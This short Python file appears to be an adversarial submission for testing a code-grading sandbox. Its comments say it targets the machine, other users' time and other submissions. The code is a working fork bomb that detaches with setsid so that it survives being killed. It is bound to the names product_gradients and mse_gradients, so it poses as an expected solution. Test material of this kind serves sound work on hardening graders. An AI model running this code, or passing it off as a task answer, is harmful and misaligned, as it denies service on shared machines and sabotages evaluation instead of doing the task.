# attack: fork as fast as possible while being killed: parents die, children go on
# asset: machine, time of others, other submissions
# channel: processes
# beats otter: no
# expect: timed_out,crashed,not_implemented,raised
# place: after
import os


def storm():
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            continue


def attack(*args):
    for _ in range(8):
        try:
            if os.fork() == 0:
                os.setsid()
                storm()
        except OSError:
            break
    raise NotImplementedError


product_gradients = mse_gradients = attack
